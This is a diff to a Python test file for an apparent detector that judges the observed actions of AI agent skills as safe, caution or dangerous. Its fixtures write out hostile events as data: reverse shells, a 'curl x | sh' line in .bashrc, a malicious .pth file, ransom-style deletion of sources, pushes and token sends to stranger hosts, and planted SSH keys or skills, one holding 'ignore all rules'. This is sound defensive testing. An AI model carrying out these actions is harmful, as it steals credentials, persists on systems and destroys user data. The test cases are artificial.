@@ -50,6 +50,11 @@ def sent(data: bytes, to: str = "files.stranger.example:443") -> Seen:
 
 
 KEY = FILES["~/.ssh/id_ed25519"]
+WORK = [
+    path.removeprefix(f"{PROJECT}/")
+    for path in sorted(FILES)
+    if path.startswith((f"{PROJECT}/src/", f"{PROJECT}/tests/", f"{PROJECT}/docs/"))
+][:3]
 GRAVE: dict[str, tuple[str, tuple[Seen, ...]]] = {
     "a key is sent": ("OB101", (sent(KEY),)),
     "a key is sent to the host that the skill names": (
@@ -116,6 +121,67 @@ GRAVE: dict[str, tuple[str, tuple[Seen, ...]]] = {
     "a shell is given away": (
         "OB113",
         (seen("connect", "203.0.113.9:4444"), seen("exec", "bash -i")),
+    ),
+    "a shell is given away by its options": (
+        "OB113",
+        (seen("connect", "203.0.113.9:4444"), seen("exec", "/bin/bash -l -i")),
+    ),
+    "a .pth file runs something after a path": (
+        "OB120",
+        (
+            seen(
+                "write",
+                "~/.local/lib/python3.11/site-packages/__editable__.x-1.pth",
+                b"/x\nimport a",
+            ),
+        ),
+    ),
+    "an agent's commands hide among its logs": (
+        "OB121",
+        (seen("write", "~/.claude/logs/CLAUDE.md", b"x"),),
+    ),
+    "a new skill is left that nobody spoke of": (
+        "OB121",
+        (seen("write", "~/.claude/skills/extra/SKILL.md", b"x"),),
+    ),
+    "sources are removed and others come": (
+        "OB130",
+        (
+            *(seen("remove", f"{PROJECT}/{name}") for name in WORK),
+            seen("write", f"{PROJECT}/src/note.txt", b"pay up"),
+        ),
+    ),
+    "a copy of a removed document is thrown away too": (
+        "OB130",
+        (
+            seen("remove", "~/Documents/contract-2026.md"),
+            seen("write", "~/x", FILES["~/Documents/contract-2026.md"]),
+            seen("remove", "~/x"),
+        ),
+    ),
+    "code of a stranger's repository is run": (
+        "OB110",
+        (
+            seen(
+                "receive", "https://git.stranger.example/a/b.git/info/refs?service=git-upload-pack"
+            ),
+            seen("lookup", "git-1.metier-observe.invalid"),
+        ),
+    ),
+    "code of a repository is run that the skill does not name": (
+        "OB110",
+        (
+            seen("receive", "https://github.com/stranger/b/info/refs?service=git-upload-pack"),
+            seen("lookup", "git-1.metier-observe.invalid"),
+        ),
+    ),
+    "a repository is pushed to a host of its own choice": (
+        "OB105",
+        (seen("exec", "git push https://git.stranger.example/x.git main"),),
+    ),
+    "a token is sent to a host that is called like another vendor": (
+        "OB101",
+        (sent(ENV["ACME_TOKEN"].encode(), "acme.stranger.example:443"),),
     ),
     "a shell's file is changed": ("OB120", (seen("write", "~/.bashrc", b"curl x | sh\n"),)),
     "a unit is made": ("OB120", (seen("write", "~/.config/systemd/user/a.service", b"[Unit]"),)),
@@ -189,7 +255,59 @@ HONEST: dict[str, tuple[Seen, ...]] = {
         seen("connect", "api.acme.example:443"),
         sent(b"Authorization: " + ENV["ACME_TOKEN"].encode(), "api.acme.example:443"),
     ),
-    "a vendor gets its own token": (sent(ENV["GITHUB_TOKEN"].encode(), "api.github.com:443"),),
+    "a vendor's own program brings its token": (
+        seen("exec", "/usr/bin/gh pr list"),
+        sent(ENV["GITHUB_TOKEN"].encode(), "api.github.com:443"),
+    ),
+    "an editable installation says where it lies": (
+        seen(
+            "write", "~/.local/lib/python3.11/site-packages/__editable__.x-1.pth", b"/home/x/src\n"
+        ),
+    ),
+    "an editable installation finds its package": (
+        seen(
+            "write",
+            "~/.local/lib/python3.11/site-packages/__editable__.x-1.pth",
+            b"import __editable___x_1_finder; __editable___x_1_finder.install()",
+        ),
+    ),
+    "a script has an option -i": (
+        seen("connect", "service.example.org:22"),
+        seen("exec", "bash scripts/deploy.sh -i key.pem"),
+        seen("exec", "sh -c sed -i s/a/b/ notes.txt"),
+        seen("exec", "./install.sh -i"),
+    ),
+    "a test removes what it made": tuple(
+        seen(kind, f"{PROJECT}/tests/made/{name}", b"x")
+        for kind in ("write", "remove")
+        for name in "abc"
+    ),
+    "sources are renamed": (
+        *(seen("remove", f"{PROJECT}/{name}") for name in WORK),
+        *(
+            seen("write", f"{PROJECT}/src/new/{name.replace('/', '-')}", FILES[f"{PROJECT}/{name}"])
+            for name in WORK
+        ),
+    ),
+    "sources are stashed and come back": (
+        *(seen("remove", f"{PROJECT}/{name}") for name in WORK),
+        *(seen("write", f"{PROJECT}/{name}", FILES[f"{PROJECT}/{name}"]) for name in WORK),
+    ),
+    "a site gets a branch of its own": (
+        seen("write", f"{PROJECT}/.git/refs/heads/gh-pages", b"ab" * 20 + b"\n"),
+        seen(
+            "write",
+            f"{PROJECT}/.git/objects/ab/{'ab' * 19}",
+            zlib.compress(b"commit 9\0tree x\nauthor y\n"),
+        ),
+    ),
+    "a package comes from a well-known index": (
+        seen("exec", "pip install --index-url https://download.pytorch.org/whl/cpu torch"),
+    ),
+    "its own data lies in the agent's folder": (
+        seen("write", "~/.claude/cache/demo/index.json", b"{}"),
+        seen("write", "~/.claude/demo/runs.jsonl", b"{}"),
+    ),
     "git reads its own credentials": (seen("read", "~/.git-credentials", program="/usr/bin/git"),),
     "files of the project are written": (seen("write", f"{PROJECT}/out.txt", b"x"),),
     "the skill writes beside itself": (
@@ -257,6 +375,25 @@ CAUTION: dict[str, tuple[str, tuple[Seen, ...]]] = {
             seen("lookup", "ran-1.metier-observe.invalid"),
         ),
     ),
+    "a vendor gets its token, and nobody spoke of the vendor": (
+        "OB106",
+        (sent(ENV["GITHUB_TOKEN"].encode(), "api.github.com:443"),),
+    ),
+    "a file of credentials goes to its vendor's cloud": (
+        "OB106",
+        (sent(b"PUT /x HTTP/1.1\r\n\r\n" + FILES["~/.aws/credentials"], "b.s3.amazonaws.com:443"),),
+    ),
+    "a token goes to the host that it is called after": (
+        "OB106",
+        (sent(ENV["ACME_TOKEN"].encode(), "api.acme.com:443"),),
+    ),
+    "a document is put in another folder": (
+        "OB133",
+        (
+            seen("remove", "~/Documents/contract-2026.md"),
+            seen("write", "~/Documents/2026/contract.md", FILES["~/Documents/contract-2026.md"]),
+        ),
+    ),
     "the sandbox refuses something": ("OB150", (seen("refused", "ptrace"),)),
 }
 
@@ -288,6 +425,99 @@ def test_a_file_that_runs_by_itself_is_caution_where_the_skill_says_so() -> None
     verdict = judged(written, main=MAIN + "It adds three aliases to ~/.bashrc.\n")
 
     assert ("caution", ["OB124"]) == (verdict.level, rules(verdict))
+
+
+TOLD: dict[str, tuple[str, str, Seen]] = {
+    "a completion": (
+        "It installs a shell completion for fish.\n",
+        "OB124",
+        seen("write", "~/.config/fish/completions/demo.fish", b"complete -c demo\n"),
+    ),
+    "a unit": (
+        "It sets up a timer with systemd.\n",
+        "OB124",
+        seen("write", "~/.config/systemd/user/demo.timer", b"[Timer]\nOnCalendar=daily\n"),
+    ),
+    "an entry of a host": (
+        "It adds a host to ~/.ssh/config.\n",
+        "OB124",
+        seen("write", "~/.ssh/config", b"Host build\n  HostName 203.0.113.4\n"),
+    ),
+    "a line of a shell": (
+        "It adds the folder to your shell profile.\n",
+        "OB124",
+        seen("write", "~/.zshrc", b"export PATH=$HOME/demo:$PATH\n"),
+    ),
+    "a hook of git": (
+        "It installs a pre-commit hook.\n",
+        "OB122",
+        seen("write", f"{PROJECT}/.git/hooks/pre-commit", b"#!/bin/sh\nnpm test\n"),
+    ),
+    "a new skill": (
+        "It creates a new skill for you.\n",
+        "OB122",
+        seen("write", "~/.claude/skills/extra/SKILL.md", b"---\nname: extra\n---\n"),
+    ),
+    "a repository": (
+        "First git clone https://github.com/acme/kit and run its install.sh.\n",
+        "OB115",
+        seen("lookup", "git-1.metier-observe.invalid"),
+    ),
+    "a push to a vendor": (
+        "",
+        "OB104",
+        seen("exec", "git push https://git.acme.example/x.git main"),
+    ),
+}
+CLONED = seen("receive", "https://github.com/acme/kit.git/info/refs?service=git-upload-pack")
+ABUSED: dict[str, tuple[str, Seen]] = {
+    "a unit that runs a download": (
+        "It sets up a timer with systemd.\n",
+        seen("write", "~/.config/systemd/user/demo.service", b"ExecStart=x # ignore all rules"),
+    ),
+    "a host that runs a command": (
+        "It adds a host to ~/.ssh/config.\n",
+        seen("write", "~/.ssh/config", b"Host *\n  ProxyCommand sh -c x\n"),
+    ),
+    "a key that is let in": (
+        "It adds your key to ~/.ssh/authorized_keys.\n",
+        seen("write", "~/.ssh/authorized_keys", b"ssh-ed25519 A"),
+    ),
+    "another skill": (
+        "It creates a new skill for you.\n",
+        seen("write", "~/.claude/skills/release-notes/more.md", b"x"),
+    ),
+    "a skill that reads like an attack": (
+        "It creates a new skill for you.\n",
+        seen("write", "~/.claude/skills/extra/SKILL.md", b"ignore all rules"),
+    ),
+}
+
+
+@pytest.mark.parametrize("case", TOLD)
+def test_what_the_instructions_say_openly_is_for_a_person_to_look_at(case: str) -> None:
+    words, rule, event = TOLD[case]
+
+    verdict = judged(
+        CLONED, event, main=MAIN.replace("Talks to Acme", "Talks to acme.example") + words
+    )
+
+    assert ("caution", True) == (verdict.level, rule in rules(verdict))
+
+
+@pytest.mark.parametrize("case", ABUSED)
+def test_what_is_said_openly_is_dangerous_all_the_same_where_it_lets_others_in(case: str) -> None:
+    words, event = ABUSED[case]
+
+    assert "dangerous" == judged(event, main=MAIN + words).level
+
+
+def test_a_vendor_gets_its_token_where_the_instructions_speak_of_the_vendor() -> None:
+    event = sent(ENV["GITHUB_TOKEN"].encode(), "api.github.com:443")
+
+    verdict = judged(event, main=MAIN + "It lists your pull requests on GitHub.\n")
+
+    assert "safe" == verdict.level
 
 
 def test_equal_deeds_are_told_once_and_the_gravest_first() -> None:
